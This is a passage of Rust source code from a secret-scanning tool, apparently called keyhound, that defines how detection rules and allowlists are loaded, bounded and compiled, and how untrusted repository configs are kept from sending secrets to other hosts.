//! Rules: the built-in pack, user config files, and the runnable form of both.
//!
//! A [`RuleSet`] is built once per process and shared by every matcher thread. Regexes compile
//! lazily, on first use, with Unicode off: a pre-commit check that sees no keyword compiles none.
//! Rules from a user's file are compiled eagerly so that a bad regex fails at load time with the
//! file, rule id and field in the message.
//!
//! A repository's config must not be able to stall every scan: keywords are bounded
//! ([`MAX_KEYWORD_LEN`], [`MAX_KEYWORDS_PER_RULE`], [`MAX_KEYWORDS`]), a config file's regexes
//! compile within [`CONFIG_REGEX_SIZE`], and its rules run near their keywords only (see
//! [`Rule::from_config`]); the matcher's time budget per blob covers the rest.

pub(crate) mod builtin;

/// The built-in rule files: each name and text.
pub(crate) fn builtin_files() -> &'static [(&'static str, &'static str)] {
    builtin::FILES
}
mod boundaries;
pub mod examples;
pub mod gitleaks;
mod required;
pub mod syntax;

use std::path::Path;
use std::sync::OnceLock;

use regex::bytes::{Regex, RegexBuilder};

use crate::error::{Error, Result};
use boundaries::relax_boundaries;
use syntax::{AllowlistSpec, GroupRef, RequiredSpec, RuleFile, RuleSpec};

/// How bad a finding of a rule is.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize,
)]
#[serde(rename_all = "lowercase")]
#[non_exhaustive]
pub enum Severity {
    /// Informational.
    Low,
    /// Worth a look.
    Medium,
    /// A working credential for something that matters.
    High,
    /// A credential that can spend money or read data right now.
    Critical,
}

impl Severity {
    fn parse(s: &str) -> Option<Severity> {
        crate::names::parse(s)
    }

    /// The lowercase name.
    pub fn as_str(self) -> &'static str {
        crate::names::name(&self)
    }
}

/// The compiled regex of a rule and the capture groups that hold the secret, the name bound to
/// it and the context word that guards it.
#[derive(Debug)]
pub(crate) struct CompiledRegex {
    /// The regex.
    pub regex: Regex,
    /// Capture group index of the secret (0 = whole match).
    pub secret_group: usize,
    /// Group `name`, if the regex has one: the name the value is bound to (an assignment's key,
    /// a header or a JSON key). The value checks decide from it, not from words nearby.
    pub name_group: Option<usize>,
    /// Group `context`, if the regex has one: a provider word that must be bound to the secret
    /// (same line, or the secret nested in the call, object or YAML block the word opens).
    pub context_group: Option<usize>,
}

/// Content this long or longer is searched for a rule's required literals before its
/// compiled regex runs; shorter content costs the regex less than the search would (a
/// pre-commit check's few lines). Before a built-in regex is first compiled its literals are
/// searched in content of any length: they come from `build.rs`, and a compile (1–4 M
/// instructions) costs more than the search of a short text.
pub(crate) const GATE_FROM: usize = 16 << 10;

/// Bytes of content a rule's gate before the compile searches in a run, at most: past them
/// the regex is compiled at its next candidate. The gate can keep refusing (a rule whose
/// keyword is common and whose provider never appears: `okta` behind `Authorization`), and
/// the compiled regex searches as fast with its own prefilter; measured on curl's history, a
/// gate with no bound cost that rule 0.6 s.
pub(crate) const FIRST_GATE_BUDGET: usize = 256 << 10;

/// A check the engine runs on a rule's value (`check = "..."` in the rule file).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum ValueCheck {
    /// `jwt`: the value must decode as a JSON Web Token; its claims are evidence.
    Jwt,
    /// `private-key`: the value is a PEM private key block (inside whatever the regex matched
    /// around it), judged like the private-key rules.
    PrivateKey,
    /// `basic-auth`: the value is HTTP Basic credentials, the base64 of `user:password`; its
    /// password is judged like a generic value.
    BasicAuth,
}

impl ValueCheck {
    fn parse(s: &str) -> Option<ValueCheck> {
        crate::names::parse(s)
    }
}

/// What an allowlist's regexes are tested against.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(crate) enum RegexTarget {
    /// The secret (the capture group).
    #[default]
    Secret,
    /// The whole regex match.
    Match,
    /// The lines the match is on.
    Line,
}

/// What a finding is judged by: the secret, the whole match, its lines and where it is.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Candidate<'a> {
    /// The rule's id.
    pub rule: &'a str,
    /// The secret.
    pub secret: &'a [u8],
    /// The whole regex match.
    pub matched: &'a [u8],
    /// The lines the match is on.
    pub line: &'a [u8],
    /// The file's path, if known.
    pub path: Option<&'a [u8]>,
}

/// One allowlist: things that drop a finding, any one of them (`or`) or all kinds listed
/// (`and`).
#[derive(Debug, Default)]
struct AllowEntry {
    regexes: LazyRegexes,
    target: RegexTarget,
    stopwords: Vec<Vec<u8>>,
    paths: LazyRegexes,
    commits: Vec<String>,
    and: bool,
    /// Rule ids it is limited to (empty: every rule).
    rules: Vec<String>,
}

impl AllowEntry {
    fn applies_to(&self, rule: &str) -> bool {
        self.rules.is_empty() || self.rules.iter().any(|r| r == rule)
    }

    fn path_matches(&self, path: Option<&[u8]>) -> bool {
        // A built-in path regex that does not compile (the tests compile them all) matches
        // nothing.
        path.is_some_and(|p| self.paths.any_match(p))
    }

    fn regex_matches(&self, c: &Candidate<'_>) -> bool {
        let hay = match self.target {
            RegexTarget::Secret => c.secret,
            RegexTarget::Match => c.matched,
            RegexTarget::Line => c.line,
        };
        // A built-in regex that does not compile (the tests compile them all) allows nothing.
        self.regexes
            .get()
            .is_ok_and(|rs| rs.iter().any(|r| r.is_match(hay)))
    }

    fn stopword_in(&self, secret: &[u8]) -> bool {
        if self.stopwords.is_empty() {
            return false;
        }
        let lower = secret.to_ascii_lowercase();
        self.stopwords
            .iter()
            .any(|w| memchr::memmem::find(&lower, w).is_some())
    }

    fn commit_matches(&self, commit: Option<&str>) -> bool {
        commit.is_some_and(|c| {
            let c = c.to_ascii_lowercase();
            self.commits.iter().any(|a| c.starts_with(a.as_str()))
        })
    }

    /// Decided by the path alone: a file it matches can be skipped before reading it.
    fn path_only(&self) -> bool {
        !self.paths.is_empty()
            && (!self.and
                || (self.regexes.is_empty()
                    && self.stopwords.is_empty()
                    && self.commits.is_empty()))
    }

    /// Whether it drops the candidate; `commit: None` when no commit is known (a commit
    /// condition is then unmet).
    fn allows(&self, c: &Candidate<'_>, commit: Option<&str>) -> bool {
        if self.and {
            (self.paths.is_empty() || self.path_matches(c.path))
                && (self.regexes.is_empty() || self.regex_matches(c))
                && (self.stopwords.is_empty() || self.stopword_in(c.secret))
                && (self.commits.is_empty() || self.commit_matches(commit))
        } else {
            self.path_matches(c.path)
                || self.regex_matches(c)
                || self.stopword_in(c.secret)
                || self.commit_matches(commit)
        }
    }
}

/// An allowlist's regexes, compiled on first use for the built-in rules (a run that meets no
/// candidate of the rule compiles none) and at load for a user's file (where a bad regex fails
/// naming the file, rule and field).
#[derive(Debug, Default)]
struct LazyRegexes {
    sources: Vec<String>,
    size: usize,
    compiled: OnceLock<std::result::Result<Vec<Regex>, String>>,
    /// Each source's required literals, when it is a built-in regex that requires some.
    gates: OnceLock<Vec<Option<required::Gate>>>,
}

impl LazyRegexes {
    fn new(sources: &[String], size: usize, eager: bool) -> std::result::Result<Self, String> {
        let lazy = LazyRegexes {
            sources: sources.to_vec(),
            size,
            compiled: OnceLock::new(),
            gates: OnceLock::new(),
        };
        if eager {
            lazy.get()?;
        }
        Ok(lazy)
    }

    fn get(&self) -> std::result::Result<&[Regex], String> {
        self.compiled
            .get_or_init(|| {
                self.sources
                    .iter()
                    .map(|s| build_regex_within(s, self.size))
                    .collect()
            })
            .as_deref()
            .map_err(Clone::clone)
    }

    fn is_empty(&self) -> bool {
        self.sources.is_empty()
    }

    /// Whether one of the regexes matches `hay` (none does when they do not compile). Before
    /// they are compiled, built-in regexes whose required literals `hay` lacks are decided
    /// without compiling: a lockfile-name regex costs a pre-commit check 1.6 M instructions
    /// to compile, its literals a few hundred to search a path for.
    fn any_match(&self, hay: &[u8]) -> bool {
        if self.compiled.get().is_none() {
            let gates = self.gates.get_or_init(|| {
                self.sources
                    .iter()
                    .map(|s| required::Gate::before_compile(s, &[]))
                    .collect()
            });
            if gates
                .iter()
                .all(|g| g.as_ref().is_some_and(|g| !g.admits(hay)))
            {
                return false;
            }
        }
        self.get()
            .is_ok_and(|r| r.iter().any(|re| re.is_match(hay)))
    }

    /// The regex sources (tests).
    #[cfg(test)]
    fn sources(&self) -> impl Iterator<Item = &str> {
        self.sources.iter().map(String::as_str)
    }
}

/// Allowlists: regexes, stopwords, paths and commits that drop a finding.
#[derive(Debug, Default)]
pub struct Allowlist {
    entries: Vec<AllowEntry>,
}

impl Allowlist {
    /// Every path regex of its entries (tests).
    #[cfg(test)]
    pub(crate) fn path_sources(&self) -> impl Iterator<Item = &str> {
        self.entries.iter().flat_map(|e| e.paths.sources())
    }

    fn compile(spec: &AllowlistSpec, file: &str, rule: &str, size: usize) -> Result<Allowlist> {
        // A user's file is the one compiled within the smaller bound, and at load.
        let eager = size == CONFIG_REGEX_SIZE;
        let regexes = LazyRegexes::new(&spec.regexes, size, eager)
            .map_err(|m| invalid(file, rule, "allowlist.regexes", m))?;
        let paths = LazyRegexes::new(&spec.paths, size, eager)
            .map_err(|m| invalid(file, rule, "allowlist.paths", m))?;
        let stopwords = spec
            .stopwords
            .iter()
            .map(|w| w.to_ascii_lowercase().into_bytes())
            .collect();
        let target = match spec.regex_target.as_deref() {
            None | Some("secret") => RegexTarget::Secret,
            Some("match") => RegexTarget::Match,
            Some("line") => RegexTarget::Line,
            Some(other) => {
                return Err(invalid(
                    file,
                    rule,
                    "allowlist.regex_target",
                    format!("`{other}` is not one of secret, match, line"),
                ))
            }
        };
        let and = match spec.condition.as_deref() {
            None | Some("or") => false,
            Some("and") => true,
            Some(other) => {
                return Err(invalid(
                    file,
                    rule,
                    "allowlist.condition",
                    format!("`{other}` is not one of or, and"),
                ))
            }
        };
        let mut commits = Vec::new();
        for c in &spec.commits {
            let c = c.trim().to_ascii_lowercase();
            if c.len() < 7 || c.len() > 64 || !c.bytes().all(|b| b.is_ascii_hexdigit()) {
                return Err(invalid(
                    file,
                    rule,
                    "allowlist.commits",
                    format!(
                        "`{}` is not a commit id (7 to 64 hex digits)",
                        c.escape_debug()
                    ),
                ));
            }
            commits.push(c);
        }
        if spec.is_empty() {
            return Ok(Allowlist::default());
        }
        Ok(Allowlist {
            entries: vec![AllowEntry {
                regexes,
                target,
                stopwords,
                paths,
                commits,
                and,
                rules: spec.rules.clone(),
            }],
        })
    }

    fn extend(&mut self, other: Allowlist) {
        self.entries.extend(other.entries);
    }

    /// Compiles every regex, naming the first that fails.
    fn check(&self, file: &str, rule: &str) -> Result<()> {
        for e in &self.entries {
            e.regexes
                .get()
                .map_err(|m| invalid(file, rule, "allowlist.regexes", m))?;
            e.paths
                .get()
                .map_err(|m| invalid(file, rule, "allowlist.paths", m))?;
        }
        Ok(())
    }

    /// Whether the secret alone is allowed (for callers that know nothing else).
    pub fn allows_secret(&self, secret: &[u8]) -> bool {
        self.allows(
            &Candidate {
                rule: "",
                secret,
                matched: secret,
                line: secret,
                path: None,
            },
            None,
        )
    }

    /// Whether a candidate is dropped by an allowlist that applies to its rule; `commit` is
    /// the commit it was found in, if known.
    pub(crate) fn allows(&self, c: &Candidate<'_>, commit: Option<&str>) -> bool {
        self.entries
            .iter()
            .any(|e| (c.rule.is_empty() || e.applies_to(c.rule)) && e.allows(c, commit))
    }

    /// Whether every rule's findings in a file at `path` are dropped, so the file can be
    /// skipped unread.
    pub fn allows_path(&self, path: &[u8]) -> bool {
        self.entries
            .iter()
            .any(|e| e.rules.is_empty() && e.path_only() && e.path_matches(Some(path)))
    }

    /// Whether `rule`'s findings in a file at `path` are all dropped.
    pub fn allows_path_for(&self, rule: &str, path: &[u8]) -> bool {
        self.entries
            .iter()
            .any(|e| e.applies_to(rule) && e.path_only() && e.path_matches(Some(path)))
    }

    /// Whether an allowlist that names commits drops a candidate found in `commit` (judged
    /// after matching, when the commit is known; `c.matched` and `c.line` may be the secret).
    pub(crate) fn allows_commit(&self, c: &Candidate<'_>, commit: &str) -> bool {
        self.entries
            .iter()
            .any(|e| !e.commits.is_empty() && e.applies_to(c.rule) && e.allows(c, Some(commit)))
    }

    /// Whether some allowlist names commits (which only history scans can judge).
    pub fn has_commits(&self) -> bool {
        self.entries.iter().any(|e| !e.commits.is_empty())
    }

    /// Whether it lists paths that skip whole files.
    pub fn has_paths(&self) -> bool {
        self.entries
            .iter()
            .any(|e| e.rules.is_empty() && e.path_only())
    }

    /// True when nothing is listed.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

fn invalid(file: &str, rule: &str, field: &str, message: String) -> Error {
    Error::InvalidRule {
        file: file.to_string(),
        rule: rule.to_string(),
        field: field.to_string(),
        message,
    }
}

/// Longest keyword, in bytes. A keyword is a short literal a rule's matches contain; a long one
/// made the keyword automaton slow to build (40,000 bytes took minutes on every run).
pub const MAX_KEYWORD_LEN: usize = 256;
/// Most keywords one rule may have.
pub const MAX_KEYWORDS_PER_RULE: usize = 64;
/// Most distinct keywords of all rules in force (the built-in rules have about 120). Each 64
/// more are one more pass of the prefilter over every blob: 1,024 made scans three times
/// slower, 4,096 thirteen times.
pub const MAX_KEYWORDS: usize = 512;
/// Most memory a built-in rule's regex may compile to.
const BUILTIN_REGEX_SIZE: usize = 16 << 20;
/// Most memory a config file's regex may compile to: four times the largest built-in rule
/// (63 KiB), room for an alternation of 200 words. Past about 256 KiB an automaton such as
/// `(?:a|aa){1600}X` no longer fits the 1 MiB lazy-DFA cache, and searching falls back to an
/// engine that took 100 s per MiB.
pub const CONFIG_REGEX_SIZE: usize = 256 << 10;

/// Compiles a bytes regex the way every rule regex is compiled: Unicode off, so `\w`, `\d`,
/// `\b` and `(?i)` are ASCII-only (fast to build, and secrets are ASCII anyway).
pub(crate) fn build_regex(source: &str) -> std::result::Result<Regex, String> {
    build_regex_within(source, BUILTIN_REGEX_SIZE)
}

/// [`build_regex`] within `size` bytes of compiled program.
fn build_regex_within(source: &str, size: usize) -> std::result::Result<Regex, String> {
    RegexBuilder::new(source)
        .unicode(false)
        .size_limit(size)
        .dfa_size_limit(1 << 20)
        .build()
        .map_err(|e| match e {
            regex::Error::CompiledTooBig(limit) => format!(
                "compiles to more than {} KiB, the most a config file's regex may take \
                 (counted repetitions such as {{0,4096}} and long alternations grow it; bound a \
                 block with max_length instead)",
                limit >> 10
            ),
            e => e.to_string(),
        })
}

/// A rule's example texts: its own, or a built-in rule's, read when first asked for (see
/// `builtin::examples`).
#[derive(Debug, Clone)]
pub(crate) enum Examples {
    Given {
        examples: Vec<String>,
        negative: Vec<String>,
    },
    Builtin,
}

impl Default for Examples {
    fn default() -> Self {
        Examples::Given {
            examples: Vec::new(),
            negative: Vec::new(),
        }
    }
}

/// One runnable rule.
#[derive(Debug)]
pub struct Rule {
    /// Stable identifier.
    pub id: String,
    /// What it finds.
    pub description: String,
    /// Severity of a finding.
    pub severity: Severity,
    /// What to do about a finding.
    pub remediation: String,
    /// The provider's page for revoking or rotating such a key, if the rule names one.
    pub revoke_url: Option<String>,
    /// Rules that must match near a match of this one for it to be reported.
    pub(crate) required: Vec<RequiredSpec>,
    /// Whether the rule is reported by itself (`false`: it only serves `required`).
    pub(crate) report: bool,
    /// Prefilter literals (case-sensitive).
    pub keywords: Vec<String>,
    /// Minimum Shannon entropy of the secret.
    pub(crate) entropy: Option<f64>,
    /// Longest secret (bytes) reported, if the rule bounds it.
    pub(crate) max_length: Option<usize>,
    /// Needs context: text only, yields to specific rules.
    pub(crate) generic: bool,
    /// Runs on binary content.
    pub(crate) binary: bool,
    /// May match glued to other letters and digits: its regex runs without its outer
    /// boundaries (see `relax_boundaries`).
    pub packed: bool,
    /// The engine's check on the value, if the rule names one.
    pub(crate) check: Option<ValueCheck>,
    /// Example and negative example texts (see [`Rule::examples`]).
    pub(crate) examples: Examples,
    /// The path the examples are checked at.
    pub example_path: String,
    /// Where the rule was defined.
    pub origin: String,
    /// Per-rule allowlist.
    pub(crate) allowlist: Allowlist,
    /// How to ask the provider whether a secret works, if the rule says.
    pub verify: Option<crate::verify::Check>,
    /// From a user's file rather than built in: its regexes compile within
    /// [`CONFIG_REGEX_SIZE`], and it runs only near its keywords (see [`Rule::from_config`]).
    from_config: bool,
    /// An automaton over the keywords, to find where they occur (config rules only).
    keyword_finder: OnceLock<Option<aho_corasick::AhoCorasick>>,
    /// The paths the rule is limited to (compiled on first use for a built-in rule).
    path: Option<LazyRegexes>,
    regex_source: String,
    /// What is compiled when it differs from `regex_source` (a packed rule's relaxed regex).
    compiled_source: Option<String>,
    group: Option<GroupRef>,
    compiled: OnceLock<std::result::Result<CompiledRegex, String>>,
    /// Literals the regex requires that the keywords do not imply (see [`required`]), built
    /// the first time content of [`GATE_FROM`] bytes or more meets the compiled rule.
    gate: OnceLock<Option<required::Gate>>,
    /// The gate searched before the regex is first compiled (built-in rules; see
    /// [`required::Gate::before_compile`]).
    first_gate: OnceLock<Option<required::Gate>>,
    /// Bytes that gate was asked about (see [`FIRST_GATE_BUDGET`]).
    first_gate_bytes: std::sync::atomic::AtomicUsize,
}

impl Rule {
    /// Example texts (with placeholders) that must yield a finding of this rule.
    pub fn examples(&self) -> &[String] {
        match &self.examples {
            Examples::Given { examples, .. } => examples,
            Examples::Builtin => builtin::examples(&self.id).map_or(&[], |(e, _)| e),
        }
    }

    /// Negative example texts (with placeholders) that must yield none.
    pub fn negative_examples(&self) -> &[String] {
        match &self.examples {
            Examples::Given { negative, .. } => negative,
            Examples::Builtin => builtin::examples(&self.id).map_or(&[], |(_, n)| n),
        }
    }

    fn from_spec(spec: RuleSpec, file: &str, from_config: bool) -> Result<Rule> {
        let id = spec.id.clone();
        if id.trim().is_empty() {
            return Err(invalid(file, "?", "id", "must not be empty".into()));
        }
        // Ids end up in file names, hook output, shell-quoted reports and baselines: keep them
        // to characters that mean nothing to a shell or a terminal.
        if let Some(bad) = id
            .chars()
            .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        {
            return Err(invalid(
                file,
                &id.escape_debug().to_string(),
                "id",
                format!(
                    "{:?} is not allowed in a rule id (only letters, digits, `.`, `_` and `-`)",
                    bad
                ),
            ));
        }
        if id.len() > 128 {
            return Err(invalid(
                file,
                &id[..32],
                "id",
                format!("{} characters is too long (at most 128)", id.len()),
            ));
        }
        if spec.keywords.iter().any(|k| k.is_empty()) {
            return Err(invalid(
                file,
                &id,
                "keywords",
                "an empty keyword (the prefilter runs the rule only where one occurs)".into(),
            ));
        }
        if spec.keywords.is_empty() && !from_config {
            return Err(invalid(
                file,
                &id,
                "keywords",
                "needs at least one keyword (the prefilter runs the rule only where one occurs)"
                    .into(),
            ));
        }
        if let Some(k) = spec.keywords.iter().find(|k| k.len() > MAX_KEYWORD_LEN) {
            return Err(invalid(
                file,
                &id,
                "keywords",
                format!(
                    "a keyword of {} bytes (`{}…`); at most {MAX_KEYWORD_LEN}: a keyword is a \
                     short literal the rule's matches contain",
                    k.len(),
                    k.chars().take(16).collect::<String>()
                ),
            ));
        }
        if spec.keywords.len() > MAX_KEYWORDS_PER_RULE {
            return Err(invalid(
                file,
                &id,
                "keywords",
                format!(
                    "{} keywords; a rule may have at most {MAX_KEYWORDS_PER_RULE}",
                    spec.keywords.len()
                ),
            ));
        }
        let size = if from_config {
            CONFIG_REGEX_SIZE
        } else {
            BUILTIN_REGEX_SIZE
        };
        let severity = match spec.severity.as_deref() {
            None => Severity::High,
            Some(s) => Severity::parse(s).ok_or_else(|| {
                invalid(
                    file,
                    &id,
                    "severity",
                    format!("`{s}` is not one of critical, high, medium, low"),
                )
            })?,
        };
        if let Some(e) = spec.entropy {
            if !(0.0..=8.0).contains(&e) {
                return Err(invalid(
                    file,
                    &id,
                    "entropy",
                    format!("{e} is outside 0..=8 bits per byte"),
                ));
            }
        }
        if spec.max_length == Some(0) {
            return Err(invalid(
                file,
                &id,
                "max_length",
                "must be at least 1 byte".into(),
            ));
        }
        if let Some(u) = &spec.revoke_url {
            if !u.starts_with("https://") || u.chars().any(|c| c.is_whitespace() || c.is_control())
            {
                return Err(invalid(
                    file,
                    &id,
                    "revoke_url",
                    "must be an https:// URL without spaces".into(),
                ));
            }
        }
        let compiled_source = if spec.packed {
            if spec.generic {
                return Err(invalid(
                    file,
                    &id,
                    "packed",
                    "a generic rule keeps its boundaries (its value has no marker to trust a glued match by)".into(),
                ));
            }
            Some(relax_boundaries(&spec.regex).ok_or_else(|| {
                invalid(
                    file,
                    &id,
                    "packed",
                    "the regex has no outer boundary to relax (packed drops a leading `\\b` or \
                     `(?:^|[^…])` and a trailing `\\b` or `(?:[^…]|$)`)"
                        .into(),
                )
            })?)
        } else {
            None
        };
        let path = match &spec.path {
            Some(p) => Some(
                LazyRegexes::new(std::slice::from_ref(p), size, from_config)
                    .map_err(|m| invalid(file, &id, "path", m))?,
            ),
            None => None,
        };
        let mut allowlist = Allowlist::default();
        for a in spec.allowlist.iter().chain(&spec.allowlists) {
            if !a.rules.is_empty() {
                return Err(invalid(
                    file,
                    &id,
                    "allowlist.rules",
                    "only a file's global allowlists name rules; a rule's own applies to it".into(),
                ));
            }
            allowlist.extend(Allowlist::compile(a, file, &id, size)?);
        }
        let check = match spec.check.as_deref() {
            None => None,
            Some(c) => Some(ValueCheck::parse(c).ok_or_else(|| {
                invalid(
                    file,
                    &id,
                    "check",
                    format!("`{c}` is not one of jwt, private-key, basic-auth"),
                )
            })?),
        };
        let verify = match &spec.verify {
            Some(v) => Some(
                crate::verify::Check::from_spec(v)
                    .map_err(|e| invalid(file, &id, e.field, e.message))?,
            ),
            None => None,
        };
        Ok(Rule {
            description: spec.description,
            severity,
            remediation: spec.remediation.unwrap_or_else(|| {
                "Remove the secret from the file, load it from the environment or a secrets \
                 manager, and rotate it if it was ever pushed."
                    .to_string()
            }),
            revoke_url: spec.revoke_url,
            required: spec.required,
            report: spec.report.unwrap_or(true),
            keywords: spec.keywords,
            entropy: spec.entropy,
            max_length: spec.max_length,
            generic: spec.generic,
            binary: spec.binary.unwrap_or(!spec.generic),
            packed: spec.packed,
            check,
            examples: Examples::Given {
                examples: spec.examples,
                negative: spec.negative_examples,
            },
            example_path: spec
                .example_path
                .unwrap_or_else(|| "example.txt".to_string()),
            origin: file.to_string(),
            allowlist,
            verify,
            from_config,
            keyword_finder: OnceLock::new(),
            path,
            regex_source: spec.regex,
            compiled_source,
            group: spec.secret_group,
            compiled: OnceLock::new(),
            gate: OnceLock::new(),
            first_gate: OnceLock::new(),
            first_gate_bytes: Default::default(),
            id,
        })
    }

    /// The regex source text.
    pub fn regex_source(&self) -> &str {
        &self.regex_source
    }

    /// The compiled regex, compiling it on first use. The error says what is wrong with it.
    pub(crate) fn compiled(&self) -> std::result::Result<&CompiledRegex, &str> {
        let size = if self.from_config {
            CONFIG_REGEX_SIZE
        } else {
            BUILTIN_REGEX_SIZE
        };
        self.compiled
            .get_or_init(|| {
                let source = self.compiled_source.as_ref().unwrap_or(&self.regex_source);
                compile_rule(source, self.group.as_ref(), size)
            })
            .as_ref()
            .map_err(|e| e.as_str())
    }

    /// Whether the regex may match in `content` (false only when it cannot: `content` lacks
    /// every literal of a set the regex requires). Before a built-in regex is first compiled,
    /// all its sets are searched in content of any length (a compile costs more), up to
    /// [`FIRST_GATE_BUDGET`]; once compiled, one set in content of [`GATE_FROM`] bytes or more.
    pub(crate) fn may_match(&self, content: &[u8]) -> bool {
        let source = self.compiled_source.as_ref().unwrap_or(&self.regex_source);
        let spent = &self.first_gate_bytes;
        // A load first: once the budget is spent, no shared counter is written per candidate.
        if self.compiled.get().is_none()
            && spent.load(std::sync::atomic::Ordering::Relaxed) < FIRST_GATE_BUDGET
            && spent.fetch_add(content.len(), std::sync::atomic::Ordering::Relaxed)
                < FIRST_GATE_BUDGET
        {
            let first = self
                .first_gate
                .get_or_init(|| required::Gate::before_compile(source, &self.keywords));
            if first.as_ref().is_some_and(|g| !g.admits(content)) {
                return false;
            }
        }
        if content.len() < GATE_FROM {
            return true;
        }
        let gate = self
            .gate
            .get_or_init(|| required::Gate::for_long(source, &self.keywords));
        gate.as_ref().is_none_or(|g| g.admits(content))
    }

    /// The path regex the rule is limited to, if any (tests).
    #[cfg(test)]
    pub(crate) fn path_sources(&self) -> impl Iterator<Item = &str> {
        self.path.iter().flat_map(|p| p.sources())
    }

    /// Whether the regex was compiled (tests).
    #[cfg(test)]
    pub(crate) fn is_compiled(&self) -> bool {
        self.compiled.get().is_some()
    }

    /// Whether a gate was built for the regex (tests).
    #[cfg(test)]
    pub(crate) fn gated(&self) -> bool {
        self.gate.get().is_some_and(Option::is_some)
    }

    /// Whether the rule comes from a user's config file. Such a rule's regex runs only within
    /// `matcher::KEYWORD_REACH` bytes of where its keywords occur,
    /// not over the whole blob: a costly regex then costs in proportion to its keywords'
    /// occurrences, and the matcher's time budget is checked between them.
    pub fn from_config(&self) -> bool {
        self.from_config
    }

    /// Finds the occurrences of the rule's keywords (`None` if the automaton cannot be built).
    pub(crate) fn keyword_finder(&self) -> Option<&aho_corasick::AhoCorasick> {
        self.keyword_finder
            .get_or_init(|| {
                aho_corasick::AhoCorasickBuilder::new()
                    .match_kind(aho_corasick::MatchKind::LeftmostFirst)
                    .build(&self.keywords)
                    .ok()
            })
            .as_ref()
    }

    /// Compiles now, turning a failure into an error naming the rule.
    pub fn check(&self) -> Result<()> {
        self.compiled()
            .map(|_| ())
            .map_err(|m| invalid(&self.origin, &self.id, "regex", m.to_string()))?;
        if let Some(path) = &self.path {
            path.get()
                .map_err(|m| invalid(&self.origin, &self.id, "path", m))?;
        }
        self.allowlist.check(&self.origin, &self.id)
    }

    /// Whether the rule applies to a file at `path` (`None`: no path known, so it may).
    pub fn applies_to_path(&self, path: Option<&[u8]>) -> bool {
        match (&self.path, path) {
            // A built-in path regex that does not compile (the tests compile them all)
            // limits the rule to no path.
            (Some(re), Some(p)) => re.any_match(p),
            (Some(_), None) | (None, _) => true,
        }
    }
}

fn compile_rule(
    source: &str,
    group: Option<&GroupRef>,
    size: usize,
) -> std::result::Result<CompiledRegex, String> {
    let regex = build_regex_within(source, size)?;
    let secret_group = match group {
        Some(GroupRef::Index(i)) => {
            if *i >= regex.captures_len() {
                return Err(format!(
                    "secret_group {i} does not exist (the regex has {} groups)",
                    regex.captures_len() - 1
                ));
            }
            *i
        }
        Some(GroupRef::Name(name)) => regex
            .capture_names()
            .position(|n| n == Some(name.as_str()))
            .ok_or_else(|| format!("secret_group `{name}` does not exist in the regex"))?,
        None => regex
            .capture_names()
            .position(|n| n == Some("secret"))
            .unwrap_or(if regex.captures_len() > 1 { 1 } else { 0 }),
    };
    let named = |want: &str| regex.capture_names().position(|n| n == Some(want));
    let name_group = named("name");
    let context_group = named("context");
    Ok(CompiledRegex {
        secret_group,
        name_group,
        context_group,
        regex,
    })
}

/// Who wrote a config file, which decides what it may do. A file that came with the content
/// being scanned is written by whoever wrote that content: it may add rules and allowlists
/// (and the summary says what they removed), but it may not send secrets anywhere.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum ConfigTrust {
    /// The user's own file (named on the command line, or a repository config the user
    /// chose to trust): its verify blocks are used.
    User,
    /// Found in the scanned repository or directory: its verify blocks are ignored.
    Repository,
}

/// Why a verify block in a config file is not used.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum VerifyIgnored {
    /// The file came from the scanned repository ([`ConfigTrust::Repository`]).
    Untrusted,
    /// The rule has a built-in id, and the block names another host than the built-in
    /// rule's: a built-in id keeps its provider's host whatever a config says.
    BuiltinHost {
        /// The built-in rule's host (`None`: the built-in rule has no verify block).
        builtin: Option<String>,
        /// The host the config named.
        config: String,
    },
}

/// Something a config file asked for that keyhound did not do.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum ConfigWarning {
    /// `[extend] disable` names a rule that does not exist (a typo, or a rule renamed since).
    UnknownDisabled {
        /// The config file.
        file: String,
        /// The id as written.
        rule: String,
    },
    /// A rule has no `keywords`: they were taken from its regex (`derived`), or, when it
    /// starts with no literal, it runs on every file (`loaded`: a user's file) or is not
    /// loaded at all (a repository's own file, which must not be able to slow every scan).
    NoKeywords {
        /// The config file.
        file: String,
        /// The rule id.
        rule: String,
        /// The keywords taken from the regex (empty: none could be).
        derived: Vec<String>,
        /// Whether the rule is used.
        loaded: bool,
    },
    /// A rule's `[rules.verify]` block was dropped (the rule itself is used).
    VerifyIgnored {
        /// The config file.
        file: String,
        /// The rule id.
        rule: String,
        /// Why.
        why: VerifyIgnored,
    },
}

impl std::fmt::Display for ConfigWarning {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ConfigWarning::UnknownDisabled { file, rule } => write!(
                f,
                "{file}: extend.disable: no rule `{}` (nothing disabled for it; `keyhound rules list` lists the ids)",
                rule.escape_debug()
            ),
            ConfigWarning::NoKeywords {
                file,
                rule,
                derived,
                loaded,
            } => match (derived.is_empty(), loaded) {
                (false, _) => write!(
                    f,
                    "{file}: rule `{rule}`: no keywords; using the literal start of its regex: {}",
                    derived
                        .iter()
                        .map(|k| format!("`{}`", k.escape_debug()))
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
                (true, true) => write!(
                    f,
                    "{file}: rule `{rule}`: no keywords, and its regex starts with no literal: it runs on every file, which slows every scan (add `keywords`)"
                ),
                (true, false) => write!(
                    f,
                    "{file}: rule `{rule}`: not loaded: no keywords, and its regex starts with no literal; a repository's own config may not run a regex on every file (add `keywords`)"
                ),
            },
            ConfigWarning::VerifyIgnored { file, rule, why } => {
                write!(f, "{file}: rule `{rule}`: verify block ignored: ")?;
                match why {
                    VerifyIgnored::Untrusted => f.write_str(
                        "the file comes from the scanned content, which may not choose where secrets are sent",
                    ),
                    VerifyIgnored::BuiltinHost { builtin: Some(b), config } => write!(
                        f,
                        "`{rule}` is a built-in rule, whose secrets go only to {b} (not {config})"
                    ),
